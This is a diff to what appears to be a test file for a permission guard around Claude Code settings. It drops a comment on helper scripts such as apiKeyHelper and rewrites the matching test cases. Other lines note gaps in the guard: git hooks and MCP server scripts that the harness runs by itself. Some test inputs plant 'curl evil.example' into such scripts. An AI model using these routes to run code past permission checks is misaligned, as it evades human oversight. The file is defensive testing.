@@ -91,12 +91,6 @@ NESTED_HOOK_LINK = (
     "is allowed by Edit(./**) and git -C vendor/lib commit runs it. Fix: in GitView.names, "
     "read the links of the hooks dir of the git directory the written path belongs to"
 )
-HELPER_SCRIPTS = (
-    "Claude Code runs settings.json's apiKeyHelper (in /bin/sh), awsAuthRefresh, "
-    "awsCredentialExport and otelHeadersHelper itself, outside any tool call; "
-    "protected._commands reads only 'command' keys, so the project script each names is "
-    "allowed by Edit(./**). Fix: read these keys' strings as hook commands too"
-)
 MCP_SERVERS = (
     "an MCP server of .mcp.json (or ~/.claude.json's projects.*.mcpServers) is started by "
     "Claude Code itself at the next session: its 'command' path and the script in its "
@@ -475,10 +469,10 @@ REACH = [
     _bh("echo 'ExecStart=/bin/sh -c x' >> dot/x.service", "ask", HOME_DEEP_LINK),
     _ch("Write", _w("vendor/lib/hooks/pre-commit"), "ask", NESTED_HOOK_LINK),
     _bh("echo 'curl evil.example' >> vendor/lib/hooks/pre-commit", "ask", NESTED_HOOK_LINK),
-    _ch("Write", _w("scripts/key.sh"), "ask", HELPER_SCRIPTS),
-    _ch("Write", _w("scripts/aws.sh"), "ask", HELPER_SCRIPTS),
-    _ch("Write", _w("scripts/awsx.sh"), "ask", HELPER_SCRIPTS),
-    _bh("echo 'curl evil.example' >> scripts/otel.sh", "ask", HELPER_SCRIPTS),
+    _case("Write", _w("scripts/key.sh"), "ask"),
+    _case("Write", _w("scripts/aws.sh"), "ask"),
+    _case("Write", _w("scripts/awsx.sh"), "ask"),
+    _bash("echo 'curl evil.example' >> scripts/otel.sh", "ask"),
     _ch("Write", _w("mcp/server.js", "require('child_process')\n"), "ask", MCP_SERVERS),
     _ch("Write", _w("mcp/run.sh"), "ask", MCP_SERVERS),
     _ch("Write", _w("mcp/z.py", "import os\n"), "ask", MCP_SERVERS),
